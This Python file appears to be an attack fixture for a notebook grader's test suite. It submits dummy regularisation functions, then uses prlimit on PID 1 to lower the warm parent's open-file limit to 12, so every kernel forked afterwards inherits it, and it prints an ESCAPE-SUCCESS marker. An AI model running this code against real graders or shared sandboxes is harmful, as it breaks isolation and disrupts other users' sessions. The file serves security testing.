"""Attack: lower the warm parent's resource limits, which every later kernel inherits (see README.md)."""

import os
import resource
import sys

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}
MARK = "ESCAPE" + "-SUCCESS:"


def L1_reg(W, reg):
    return -1.0, np.ones_like(W)


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)


def _say(text):
    print(f"[kernel] {text}", flush=True)


def _limit_line(pid, name):
    try:
        with open(f"/proc/{pid}/limits") as handle:
            return next((" ".join(line.split()) for line in handle if line.startswith(name)), "?")
    except OSError as error:
        return repr(error)


def _lower_the_parents_limits():
    """prlimit(2) on PID 1 needs only the same uid and gid, no capability (lowering, or raising a soft limit)."""
    if os.getpid() == 1:
        return
    _say(f"PID 1 before: {_limit_line(1, 'Max open files')}")
    try:
        soft, hard = resource.prlimit(1, resource.RLIMIT_NOFILE)
        resource.prlimit(1, resource.RLIMIT_NOFILE, (12, hard))  # soft limit only: the hard one stays
    except OSError as error:
        _say(f"prlimit(1, RLIMIT_NOFILE): {error!r}")
        return
    after = _limit_line(1, "Max open files")
    _say(f"PID 1 after: {after}")
    if resource.prlimit(1, resource.RLIMIT_NOFILE)[0] == 12:
        _say(f"{MARK} the warm parent's RLIMIT_NOFILE is now 12: every kernel it forks later inherits it")


if "ipykernel" in sys.modules:
    _lower_the_parents_limits()
    _say("ending this kernel: the grader starts the next one")
    os._exit(1)
